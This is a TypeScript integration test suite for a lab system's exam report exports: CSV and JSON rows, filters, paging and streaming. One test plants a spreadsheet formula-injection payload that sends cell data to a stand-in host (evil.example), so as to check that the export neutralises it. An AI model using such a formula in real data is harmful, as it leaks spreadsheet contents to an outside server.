import crypto from 'node:crypto';
import { type ExamReportPage, reportColumns } from '@ponto/domain';
import { resources } from '@ponto/i18n';
import { eq } from 'drizzle-orm';
import type { MqttClient } from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { examRequests } from '../../db/schema';
import { createUser, randomCpf } from '../../testing/factories';
import { createTestApp, type TestApp } from '../../testing/test-app';
import { capsule, examRunFixtures, type Json, type Operator } from '../exams-run/test-fixtures';
import { order, orderingOperator, registration } from '../ordering/test-fixtures';
import { ExamReportRepository } from './repository';
import { insertReleasedExams, parseCsv } from './test-fixtures';

let app: TestApp;
const clients: MqttClient[] = [];
let fx: ReturnType<typeof examRunFixtures>;

beforeAll(async () => {
  app = await createTestApp({ AUTH_RATE_LIMIT_PER_MINUTE: '1000' }, undefined, { isolated: true });
  fx = examRunFixtures(app, clients);
});
afterAll(async () => {
  await Promise.all(clients.map((c) => c.endAsync(true)));
  await app?.stop();
});

const MARCH = { from: '2026-03-01', to: '2026-03-31', exam: 'all', model: 'all' };
const column = (name: (typeof reportColumns)[number]) => reportColumns.indexOf(name);
const header = (locale: 'pt-BR' | 'en-US') =>
  reportColumns.map((c) => (resources[locale].examReport.columns as Record<string, string>)[c]);

/** An analyst (with council data) of the operator's workplace, signed in: the role that releases. */
async function analystOf(op: Operator): Promise<Operator> {
  const user = await createUser(app.database.db, {
    name: 'Clara Analista',
    roles: ['analyst'],
    councilAcronym: 'CRBM',
    councilState: 'RJ',
    councilNumber: '98765',
    workplaceIds: [op.workplace.id],
  });
  const login = await app.http.inject({
    method: 'POST',
    url: '/auth/login',
    payload: { document: user.document, password: user.password },
  });
  return { ...op, user, headers: { ...op.headers, authorization: `Bearer ${login.json().accessToken}` } };
}

/** Answers to the required questions of the demo questionnaires. */
const quizAnswers: Record<string, Json> = { COVID_AG: { symptoms: false }, GLUCOSE: { fasting: true } };

/**
 * Moves the server's clock and signs the actors in again at that time: an access token lives 15 minutes of
 * the server's clock, and the tests move it by days.
 */
async function travel(at: string | Date, ...actors: Operator[]) {
  app.clock.set(new Date(at));
  for (const actor of actors) {
    const login = await app.http.inject({
      method: 'POST',
      url: '/auth/login',
      payload: { document: actor.user.document, password: actor.user.password },
    });
    expect(login.statusCode, login.body).toBe(200);
    actor.headers.authorization = `Bearer ${login.json().accessToken}`;
  }
}

/** An exam registered at `at` through the wizard's API, its result typed by the operator. */
async function typedExam(
  op: Operator,
  input: {
    at: string;
    examCode?: string;
    analyte?: string;
    value?: string;
    interferent?: string;
    patient?: Record<string, unknown>;
    payment?: Record<string, unknown>;
  },
) {
  const examCode = input.examCode ?? 'HBA1C';
  await travel(input.at, op);
  const created = await app.http.inject({
    method: 'POST',
    url: '/pre-exams',
    headers: op.headers,
    payload: {
      subject: { kind: 'patient', registration: registration(randomCpf(), input.patient) },
      order: order([op.index(examCode)], {
        reportLanguages: ['pt-BR', 'en-US'],
        quizForm: { [op.index(examCode)]: quizAnswers[examCode] ?? {} },
        ...(input.payment ? { payment: input.payment } : {}),
      }),
    },
  });
  expect(created.statusCode, created.body).toBe(201);
  const [exam] = await app.database.db
    .select({ id: examRequests.id })
    .from(examRequests)
    .where(eq(examRequests.preExamId, created.json().id));
  const typed = await fx.call(op, 'POST', `/exam-requests/${exam!.id}/results`, {
    analytes: [{ code: input.analyte ?? examCode, value: input.value ?? '6,25' }],
    ...(input.interferent ? { interferent: input.interferent } : {}),
  });
  expect(typed.statusCode, typed.body).toBe(200);
  return { id: exam!.id, protocolNumber: created.json().protocolNumber as string };
}

async function release(analyst: Operator, id: string) {
  const res = await fx.call(analyst, 'POST', `/exam-requests/${id}/release`);
  expect(res.statusCode, res.body).toBe(200);
}

const query = (params: Record<string, string>) => new URLSearchParams(params).toString();

async function csv(op: Operator, params: Record<string, string>) {
  const res = await app.http.inject({
    method: 'GET',
    url: `/reports/exams.csv?${query(params)}`,
    headers: op.headers,
  });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  expect(res.body.startsWith('\uFEFF')).toBe(true);
  return { res, records: parseCsv(res.body.slice(1)) };
}

async function page(op: Operator, params: Record<string, string>) {
  const res = await app.http.inject({
    method: 'GET',
    url: `/reports/exams?${query(params)}`,
    headers: op.headers,
  });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  return res.json() as ExamReportPage;
}

describe('exam report CSV (§2, §3 report row columns)', () => {
  it('the header is the 31 columns translated, in order; a released exam reads back right in each language', async () => {
    const op = await orderingOperator(app, { offer: [{ code: 'HBA1C', priceCents: 12000 }] });
    const analyst = await analystOf(op);
    const cpf = randomCpf();
    await travel('2026-03-10T13:05:00Z', op, analyst);
    const created = await app.http.inject({
      method: 'POST',
      url: '/pre-exams',
      headers: op.headers,
      payload: {
        subject: {
          kind: 'patient',
          registration: registration(cpf, { fullName: 'Irene Laudada', birthDate: '1990-03-11' }),
        },
        order: order([op.index('HBA1C')], {
          reportLanguages: ['pt-BR', 'en-US'],
          payment: {
            method: 'pix',
            discountCents: 1005,
            discountMotive: 'Cliente fiel',
            pricePaidCents: 10995,
            displacementFeeCents: 0,
          },
        }),
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const protocolNumber = created.json().protocolNumber as string;
    const [exam] = await app.database.db
      .select({ id: examRequests.id })
      .from(examRequests)
      .where(eq(examRequests.preExamId, created.json().id));
    const typed = await fx.call(op, 'POST', `/exam-requests/${exam!.id}/results`, {
      analytes: [{ code: 'HBA1C', value: '6,25' }],
      interferent: 'Hemólise leve',
    });
    expect(typed.statusCode, typed.body).toBe(200);
    await release(analyst, exam!.id);
    const [stored] = await app.database.db
      .select({ hash: examRequests.reportHash })
      .from(examRequests)
      .where(eq(examRequests.id, exam!.id));

    const { res, records } = await csv(op, { ...MARCH, lang: 'pt-BR' });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="relatorio-exames-2026-03-01_2026-03-31.csv"',
    );
    expect(records[0]).toEqual(header('pt-BR'));
    expect(records[0]!.slice(0, 5)).toEqual([
      'Documento',
      'Paciente',
      'Telefone',
      'Data do exame',
      'Analito',
    ]);
    expect(records).toHaveLength(2);
    const row = Object.fromEntries(reportColumns.map((c, i) => [c, records[1]![i]]));
    expect(row).toEqual({
      document: cpf,
      patient: 'Irene Laudada',
      phone: '11 99999-9999',
      // 13:05 UTC is 10:05 in São Paulo.
      examDate: '2026-03-10 10:05',
      analyte: 'HbA1c (%)',
      operator: op.user.name,
      operatorDocument: op.user.document,
      workplace: op.workplace.name,
      result: '6.25',
      orderPassword: '',
      valid: 'Sim',
      elapsedTime: '',
      processingTime: '',
      tubeCode: '',
      code: protocolNumber,
      hashcode: stored!.hash,
      age: '35',
      city: 'São Paulo',
      address: 'Av. Paulista, 1000, Bela Vista, 01310-100',
      state: 'SP',
      birthDate: '1990-03-11',
      pricePaid: '109.95',
      fullPrice: '120.00',
      discount: '10.05',
      discountMotive: 'Cliente fiel',
      paymentMethod: 'Pix',
      methodology: 'Imunofluorescência',
      sex: 'Feminino',
      voucher: '',
      interferent: 'Hemólise leve',
      assistantRegistration: '',
    });
    expect(stored!.hash).toMatch(/^[0-9a-f]{64}$/);

    const english = await csv(op, { ...MARCH, lang: 'en-US' });
    expect(english.records[0]).toEqual(header('en-US'));
    expect(english.records[0]!.slice(0, 4)).toEqual(['Document', 'Patient', 'Phone', 'Exam date']);
    expect(english.records[1]![column('valid')]).toBe('Yes');
    expect(english.records[1]![column('sex')]).toBe('Female');
    expect(english.res.headers['content-disposition']).toContain('exam-report-2026-03-01_2026-03-31.csv');

    // The JSON list carries the same row.
    const listed = await page(op, { ...MARCH, lang: 'pt-BR' });
    expect(listed).toEqual({ items: [{ examRequestId: exam!.id, row }], nextCursor: null });
  });

  it('quotes per RFC 4180 and keeps formulas from running; negative numbers stay numbers', async () => {
    const op = await orderingOperator(app, { offer: [{ code: 'GLUCOSE', priceCents: 5000 }] });
    await typedExam(op, {
      at: '2026-03-12T15:00:00Z',
      examCode: 'GLUCOSE',
      analyte: 'GLU',
      value: '-2,5',
      interferent: '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
      payment: {
        method: 'cash',
        discountCents: 100,
        discountMotive: 'Vizinho, "amigo"\nda casa',
        pricePaidCents: 0,
        displacementFeeCents: 0,
      },
    });
    const { res, records } = await csv(op, { ...MARCH, lang: 'pt-BR' });
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clique"")"`);
    expect(res.body).toContain('"Vizinho, ""amigo""\nda casa"');
    expect(res.body).toContain(',-2.5,');
    expect(res.body.endsWith('\r\n')).toBe(true);
    const row = records[1]!;
    expect(row).toHaveLength(31);
    expect(row[column('interferent')]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"clique")`);
    expect(row[column('discountMotive')]).toBe('Vizinho, "amigo"\nda casa');
    expect(row[column('result')]).toBe('-2.5');
  });

  it('an exam with no result yet is one row with empty result columns; qualitative codes are translated', async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG'] });
    await travel('2026-03-15T12:00:00Z', op);
    const waiting = await fx.examRequest(op, 'COVID_AG', 'Paulo Espera');
    const invalid = await typedExam(op, {
      at: '2026-03-16T12:00:00Z',
      examCode: 'COVID_AG',
      analyte: 'SARS_COV_2_AG',
      value: '-1',
    });
    const { items } = await page(op, { ...MARCH, lang: 'en-US' });
    expect(items.map((i) => i.examRequestId)).toEqual([invalid.id, waiting]);
    expect(items[0]!.row).toMatchObject({ result: 'Invalid', analyte: 'SARS-CoV-2 antigen', valid: 'No' });
    expect(items[1]!.row).toMatchObject({
      patient: 'Paulo Espera',
      analyte: '',
      result: '',
      valid: '',
      hashcode: '',
      methodology: 'Imunocromatografia',
    });
  });
});

describe('filters (§5: workplace, exam, period, model)', () => {
  it('refuses an inverted period, a missing or unknown filter, naming the field — on every endpoint', async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG'] });
    for (const path of ['/reports/exams', '/reports/exams.csv', '/reports/exams.zip']) {
      const inverted = await app.http.inject({
        method: 'GET',
        url: `${path}?${query({ ...MARCH, from: '2026-04-01' })}`,
        headers: op.headers,
      });
      expect(inverted.statusCode, path).toBe(400);
      expect(inverted.json().error).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: [{ field: 'from', messageKey: 'validation:dateRangeInverted' }],
      });
      const wrong = await app.http.inject({
        method: 'GET',
        url: `${path}?${query({ from: '2026-02-30', exam: 'HIV', model: 'Toaster', lang: 'fr-FR' })}`,
        headers: op.headers,
      });
      expect(wrong.statusCode, path).toBe(400);
      expect(wrong.json().error.fields).toEqual(
        expect.arrayContaining([{ field: 'lang', messageKey: 'validation:invalidOption' }]),
      );
    }
    const wrong = await app.http.inject({
      method: 'GET',
      url: `/reports/exams?${query({ from: '2026-02-30', exam: 'HIV', model: 'Toaster' })}`,
      headers: op.headers,
    });
    expect(wrong.json().error.fields).toEqual([
      { field: 'from', messageKey: 'validation:invalidDate' },
      { field: 'to', messageKey: 'validation:required' },
      { field: 'exam', messageKey: 'validation:invalidOption' },
      { field: 'model', messageKey: 'validation:invalidOption' },
    ]);
    const noWorkplace = await app.http.inject({
      method: 'GET',
      url: `/reports/exams?${query(MARCH)}`,
      headers: { authorization: op.headers.authorization },
    });
    expect(noWorkplace.json().error.fields).toEqual([{ field: 'cnpj', messageKey: 'validation:required' }]);
  });

  it('the period is on the workplace calendar, the exam filter narrows, another workplace never shows', async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG', 'HBA1C'] });
    // 02:30 UTC on 1 April is still 31 March in São Paulo.
    const lateMarch = await typedExam(op, { at: '2026-04-01T02:30:00Z' });
    const april = await typedExam(op, { at: '2026-04-01T03:30:00Z' });
    const covid = await typedExam(op, {
      at: '2026-03-20T12:00:00Z',
      examCode: 'COVID_AG',
      analyte: 'SARS_COV_2_AG',
      value: '1',
    });
    const stranger = await orderingOperator(app, { offer: ['COVID_AG', 'HBA1C'] });
    await typedExam(stranger, { at: '2026-03-20T12:00:00Z' });

    const ids = async (who: Operator, params: Record<string, string>) =>
      (await page(who, { ...MARCH, ...params })).items.map((i) => i.examRequestId);
    expect(await ids(op, {})).toEqual([lateMarch.id, covid.id]);
    expect(await ids(op, { from: '2026-04-01', to: '2026-04-01' })).toEqual([april.id]);
    expect(await ids(op, { exam: String(op.index('COVID_AG')) })).toEqual([covid.id]);
    expect(await ids(op, { exam: String(op.index('HBA1C')) })).toEqual([lateMarch.id]);
    expect(await ids(op, { exam: '9999' })).toEqual([]);

    // Another workplace: none of these, in the list or the CSV (the ZIP: exam-report-zip.int.test.ts).
    expect(await ids(stranger, {})).toHaveLength(1);
    expect(await ids(stranger, {})).not.toContain(covid.id);
    const strangerCsv = await csv(stranger, MARCH);
    expect(strangerCsv.records).toHaveLength(2);
    expect(strangerCsv.res.body).not.toContain(covid.protocolNumber);
    // A workplace the user is not linked to answers 404, not its rows.
    const foreign = await app.http.inject({
      method: 'GET',
      url: `/reports/exams?${query(MARCH)}`,
      headers: { ...op.headers, cnpj: stranger.workplace.cnpj },
    });
    expect(foreign.statusCode).toBe(404);
  });

  it('model: the family of the reader the exam ran on, or external for typed results', async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG'] });
    await travel(new Date(), op);
    const period = { from: '2020-01-01', to: '2099-12-31', exam: 'all' };
    const typed = await typedExam(op, {
      at: new Date().toISOString(),
      examCode: 'COVID_AG',
      analyte: 'SARS_COV_2_AG',
      value: '0',
    });
    const device = await fx.reader(op, 'Flow');
    const id = await fx.examRequest(op, 'COVID_AG', 'Rita Leitora');
    const lot = await fx.lot(op, 'COVID_AG');
    const capsuleCode = capsule();
    expect((await fx.start(op, id, device.code)).statusCode).toBe(201);
    await device.send(id, { type: 'nfcRead', capsuleCode, lot: lot.number });
    await device.send(id, { type: 'stepStarted', step: 'waitingCapsule' });
    await device.send(id, { type: 'capsuleInserted' });
    await device.result(id, [{ analyte: 'SARS_COV_2_AG', value: 1, processTimeSeconds: 181 }]);
    for (const step of ['reading', 'analysis', 'send', 'waitingResult', 'reportReady'])
      await device.send(id, { type: 'stepStarted', step });
    await fx.until(op, id, (d: Json) => d.running === false);

    const ids = async (model: string) =>
      (await page(op, { ...period, model })).items.map((i) => i.examRequestId);
    expect(await ids('external')).toEqual([typed.id]);
    expect(await ids('Flow')).toEqual([id]);
    expect(await ids('Lens')).toEqual([]);
    expect((await ids('all')).sort()).toEqual([typed.id, id].sort());

    const [line] = (await page(op, { ...period, model: 'Flow', lang: 'pt-BR' })).items;
    expect(line!.row).toMatchObject({
      patient: 'Rita Leitora',
      result: 'Reagente',
      tubeCode: capsuleCode,
      processingTime: '181',
      operator: op.user.name,
      methodology: 'Imunocromatografia',
    });
    expect(Number(line!.row.elapsedTime)).toBeGreaterThanOrEqual(0);
    const [created] = await app.database.db
      .select({ at: examRequests.createdAt })
      .from(examRequests)
      .where(eq(examRequests.id, id));
    const saoPaulo = new Intl.DateTimeFormat('sv-SE', {
      timeZone: 'America/Sao_Paulo',
      dateStyle: 'short',
      timeStyle: 'short',
    });
    expect(line!.row.examDate).toBe(saoPaulo.format(created!.at));
  });
});

describe("paging ('load more', §9)", () => {
  it('walks the period 50 rows at a time, newest exam first, each row once; a forged cursor is a field error', async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG'] });
    // A blood count has three analytes: row 50 is the second of the 17th exam, so a page ends mid-exam.
    await insertReleasedExams(app.database.db, {
      workplaceId: op.workplace.id,
      userId: op.user.id,
      examCode: 'CBC',
      count: 40,
      at: new Date('2026-03-20T12:00:00Z'),
    });
    const seen: string[] = [];
    const sizes: number[] = [];
    let cursor: string | null = null;
    do {
      const result: Awaited<ReturnType<typeof page>> = await page(op, {
        ...MARCH,
        ...(cursor ? { cursor } : {}),
      });
      sizes.push(result.items.length);
      seen.push(...result.items.map((i) => `${i.examRequestId}:${i.row.analyte}`));
      cursor = result.nextCursor;
    } while (cursor);
    expect(sizes).toEqual([50, 50, 20]);
    expect(new Set(seen).size).toBe(120);
    const { records } = await csv(op, MARCH);
    expect(records).toHaveLength(121);
    // Newest first: the CSV and the pages agree on the order.
    expect(records.slice(1).map((r) => r[column('code')])).toEqual(
      [...records.slice(1).map((r) => r[column('code')]!)].sort(),
    );

    const forged = await app.http.inject({
      method: 'GET',
      url: `/reports/exams?${query({ ...MARCH, cursor: Buffer.from('{"at":"x"}').toString('base64url') })}`,
      headers: op.headers,
    });
    expect(forged.statusCode).toBe(400);
    expect(forged.json().error.fields).toEqual([{ field: 'cursor', messageKey: 'validation:invalid' }]);
    // Shaped like a real one, but no such instant: still the field, never the database's error.
    const impossible = Buffer.from(
      JSON.stringify({ at: '2026-13-45 25:61:00+99', id: crypto.randomUUID(), analyte: '' }),
    ).toString('base64url');
    const refused = await app.http.inject({
      method: 'GET',
      url: `/reports/exams?${query({ ...MARCH, cursor: impossible })}`,
      headers: op.headers,
    });
    expect([refused.statusCode, refused.json().error.fields]).toEqual([
      400,
      [{ field: 'cursor', messageKey: 'validation:invalid' }],
    ]);
  });

  it('reads the CSV through one COPY, batch by batch, and gives its connection back when the reader stops', async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG'] });
    await insertReleasedExams(app.database.db, {
      workplaceId: op.workplace.id,
      userId: op.user.id,
      examCode: 'CBC',
      count: 5,
      at: new Date('2026-03-21T12:00:00Z'),
    });
    const repo = new ExamReportRepository(app.database.db, op.workplace.id, app.database.pool);
    const filter = { ...MARCH, exam: 'all', model: 'all' } as const;
    const batches: number[] = [];
    for await (const lines of repo.allLines(filter, 4)) batches.push(lines.length);
    expect(batches).toEqual([4, 4, 4, 3]);

    // A client that goes away after the first batch: the COPY's connection is closed and no longer held.
    const inUse = () => app.database.pool.totalCount - app.database.pool.idleCount;
    const before = inUse();
    for await (const lines of repo.allLines(filter, 4)) {
      expect(lines).toHaveLength(4);
      expect(inUse()).toBe(before + 1);
      break;
    }
    expect(inUse()).toBe(before);
    const again = await app.http.inject({
      method: 'GET',
      url: `/reports/exams.csv?${query(MARCH)}`,
      headers: op.headers,
    });
    expect(parseCsv(again.body)).toHaveLength(16);
  });

  it("reads the same lines through the CSV's COPY as through a query, whatever the text holds", async () => {
    const op = await orderingOperator(app, { offer: ['COVID_AG'] });
    const tricky = 'Ana\tBeatriz\n"Bia"\\ Çardoso, =1+1';
    await insertReleasedExams(app.database.db, {
      workplaceId: op.workplace.id,
      userId: op.user.id,
      examCode: 'CBC',
      count: 3,
      at: new Date('2026-03-10T12:00:00Z'),
      fullName: tricky,
    });
    await insertReleasedExams(app.database.db, {
      workplaceId: op.workplace.id,
      userId: op.user.id,
      examCode: 'COVID_AG',
      count: 2,
      at: new Date('2026-03-09T12:00:00Z'),
      released: false,
    });
    await app.database.pool.query(
      `update patients set registration = jsonb_set(registration, '{patient,address,street}', to_jsonb($2::text))
       where workplace_id = $1`,
      [op.workplace.id, 'Rua "Dois"\\\t\r\nfim\u0001'],
    );
    const repo = new ExamReportRepository(app.database.db, op.workplace.id, app.database.pool);
    const filter = { ...MARCH, exam: 'all', model: 'all' } as const;
    const copied = [];
    for await (const lines of repo.allLines(filter, 7)) copied.push(...lines);
    const queried = await repo.lines(filter, { limit: 1000 });
    expect(copied.length).toBeGreaterThan(5);
    expect(copied).toEqual(queried);
    expect(copied[0]?.patientName).toBe(`${tricky} ${copied[0]?.patientName?.split(' ').at(-1)}`);
  });
});
